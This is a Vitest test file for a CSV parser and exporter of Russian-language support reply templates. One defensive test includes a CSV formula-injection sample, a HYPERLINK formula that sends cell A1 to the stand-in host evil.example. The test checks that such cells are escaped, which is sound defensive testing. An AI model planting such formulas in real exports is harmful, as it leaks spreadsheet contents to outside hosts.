import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Template } from '../../../lib/model';
import { DEFAULT_CSV_CATEGORY, deriveTemplateId, parseCsvPack, templatesToCsv } from '../../../lib/packs/pack-csv';

const options = { packId: 'team-csv', name: 'Команда' };
const parse = (text: string) => parseCsvPack(text, options);

describe('parseCsvPack', () => {
  it('reads the Google Sheets layout: quotes, doubled quotes, commas and multi-line bodies in one cell', () => {
    const csv = [
      'title,body,tags,category,shortcut,id',
      'Приветствие,"Здравствуйте, [Имя]!\nЧем могу помочь?","привет, начало",Общее,прив,greeting',
      'Возврат,"Вы сказали ""верните деньги"" — оформим возврат.",возврат;деньги,Возвраты,,refund',
    ].join('\r\n');
    const { pack, errors } = parse(`${csv}\r\n`);
    expect(errors).toEqual([]);
    expect(pack).toMatchObject({ id: 'team-csv', name: 'Команда', locale: 'ru', rules: [], policy: {} });
    expect(pack!.templates).toEqual([
      {
        id: 'greeting',
        title: 'Приветствие',
        body: 'Здравствуйте, [Имя]!\nЧем могу помочь?',
        tags: ['привет', 'начало'],
        category: 'Общее',
        shortcut: 'прив',
      },
      {
        id: 'refund',
        title: 'Возврат',
        body: 'Вы сказали "верните деньги" — оформим возврат.',
        tags: ['возврат', 'деньги'],
        category: 'Возвраты',
      },
    ]);
  });

  it('accepts Russian headers in any order and case, a BOM, «ё», extra columns and blank rows', () => {
    const csv = '\uFEFFТекст,  НАЗВАНИЕ ,Тэги,Раздел,Комментарий лида\n"Добрый день!",Привет,,,не показывать\n,,,,\n';
    const { pack, errors } = parse(csv);
    expect(errors).toEqual([]);
    expect(pack!.templates).toEqual([
      {
        id: deriveTemplateId('Привет'),
        title: 'Привет',
        body: 'Добрый день!',
        tags: [],
        category: DEFAULT_CSV_CATEGORY,
      },
    ]);
  });

  it('accepts an Excel export separated by semicolons', () => {
    const { pack } = parse('название;текст\nПривет;"Здравствуйте; рады помочь"\n');
    expect(pack!.templates[0].body).toBe('Здравствуйте; рады помочь');
  });

  it('derives stable ids from titles when there is no id column: same title, same id; case and spaces ignored', () => {
    const id = deriveTemplateId('Возврат в течение 7 дней');
    expect(id).toMatch(/^vozvrat-v-techenie-7-dney-[0-9a-f]{8}$/);
    expect(deriveTemplateId('  возврат   В ТЕЧЕНИЕ 7 дней ')).toBe(id);
    expect(deriveTemplateId('Возврат в течение 14 дней')).not.toBe(id);
    expect(deriveTemplateId('!!!')).toMatch(/^t-[0-9a-f]{8}$/);
    const first = parse('title,body\nВозврат в течение 7 дней,Текст один\n').pack!;
    const second = parse('title,body\nДругой,x\nВозврат в течение 7 дней,Текст два\n').pack!;
    expect(second.templates[1].id).toBe(first.templates[0].id);
  });

  it('uses the id column when filled and derives the id for rows where it is empty', () => {
    const { pack } = parse('id,title,body\nhello,Привет,Текст\n,Пока,До свидания\n');
    expect(pack!.templates.map((t) => t.id)).toEqual(['hello', deriveTemplateId('Пока')]);
  });

  it('names the spreadsheet row and the column of a broken cell, and produces nothing', () => {
    // Row 3 holds a two-line body: the broken row is still row 4 in the sheet, not line 5 of the file.
    const csv = 'название,текст,категория\nА,Первый,Общее\nБ,"Вторая\nстрока",Общее\nВ,,Общее\n';
    expect(parse(csv)).toEqual({
      pack: null,
      errors: [{ path: 'строка 4, столбец «текст»', message: '«Текст»: не заполнено' }],
    });
  });

  it('reports schema problems of a cell against its row and column', () => {
    const { pack, errors } = parse('id,title,body,shortcut\nBad Id,А,Текст,\nok,Б,Текст,два слова\n');
    expect(pack).toBeNull();
    expect(errors.map((e) => e.path)).toEqual(['строка 2, столбец «id»', 'строка 3, столбец «shortcut»']);
    expect(errors[1].message).toBe('«Сокращение»: одно слово, без пробелов');
  });

  it('rejects duplicate ids and duplicate titles without an id column, naming both rows', () => {
    expect(parse('id,title,body\na,А,1\na,Б,2\n').errors).toEqual([
      { path: 'строка 3, столбец «id»', message: 'идентификатор «a» уже занят строкой 2' },
    ]);
    expect(parse('title,body\nА,1\nа,2\n').errors[0]).toMatchObject({ path: 'строка 3, столбец «title»' });
  });

  it('rejects an unterminated quote, a row with extra cells, missing required columns and an empty sheet', () => {
    expect(parse('title,body\nА,"не закрыто\n').errors[0]).toMatchObject({
      path: 'строка 2',
      message: expect.stringMatching(/кавычка не закрыта/),
    });
    expect(parse('title,body\nА,Текст,лишнее\n').errors[0]).toMatchObject({
      path: 'строка 2',
      message: expect.stringMatching(/3 ячеек, а столбцов в заголовке 2/),
    });
    expect(parse('title,text2\nА,Б\n').errors[0].message).toMatch(/нет столбца «body» \(или «текст»\)/);
    expect(parse('\n\n').errors[0].message).toMatch(/таблица пустая/);
    expect(parse('title,body\n').errors[0].message).toMatch(/нет ни одного шаблона/);
  });

  it('rejects two columns for one field', () => {
    expect(parse('title,название,body\nА,Б,В\n').errors[0]).toMatchObject({
      path: 'строка 1, столбец «название»',
    });
  });
});

describe('templatesToCsv', () => {
  const templates: Template[] = [
    {
      id: 'greeting',
      title: 'Приветствие',
      body: 'Здравствуйте, [Имя]!\n"Рады" помочь.',
      tags: ['привет', 'начало'],
      category: 'Общее',
      shortcut: 'прив',
    },
    { id: 'list', title: '=SUM(A1)', body: '- пункт один\n- пункт два', tags: [], category: 'Разное', note: 'ст. 25' },
  ];

  it('round-trips through parseCsvPack with ids, line breaks, quotes and formula-looking cells intact', () => {
    const csv = templatesToCsv(templates);
    expect(csv.startsWith('\uFEFFid,title,body,tags,category,shortcut,note\r\n')).toBe(true);
    expect(csv).toContain("'=SUM(A1)"); // a spreadsheet shows it as text instead of running it
    expect(parse(csv).pack!.templates).toEqual(templates);
  });

  it('escapes a formula at the start of any cell, multi-line cells included (a spreadsheet would run it)', () => {
    const attack: Template[] = [
      {
        id: 'attack',
        title: '@SUM(1+1)*cmd',
        body: '=HYPERLINK("https://evil.example/?"&A1,"Подробнее")\nСпасибо за ожидание.',
        tags: ['+7 (495)'],
        category: '-2+3',
        note: '\t=1+1\nещё строка',
      },
    ];
    const csv = templatesToCsv(attack, { bom: false });
    const row = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data[1];
    expect(row).toEqual([
      'attack',
      "'@SUM(1+1)*cmd",
      `'=HYPERLINK("https://evil.example/?"&A1,"Подробнее")\nСпасибо за ожидание.`,
      "'+7 (495)",
      "'-2+3",
      '',
      "'\t=1+1\nещё строка",
    ]);
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Import trims cells, so the note's leading tab is the one thing that does not come back.
    expect(parse(csv).pack!.templates).toEqual([{ ...attack[0], note: '=1+1\nещё строка' }]);
  });

  it('can leave out the byte-order mark', () => {
    expect(templatesToCsv(templates, { bom: false }).startsWith('id,')).toBe(true);
  });
});

describe('helpdesk macros in a sheet', () => {
  it('turns {{…}} fill-ins into our [Имя] placeholders', () => {
    const csv =
      'title,body,id\nПривет,"Здравствуйте, {{ticket.requester.first_name}}! Заказ {{номер заказа}}.",hello\n';
    const { pack } = parseCsvPack(csv, { packId: 'sheet', name: 'Таблица' });
    expect(pack?.templates[0].body).toBe('Здравствуйте, [Имя]! Заказ [номер заказа].');
  });
});
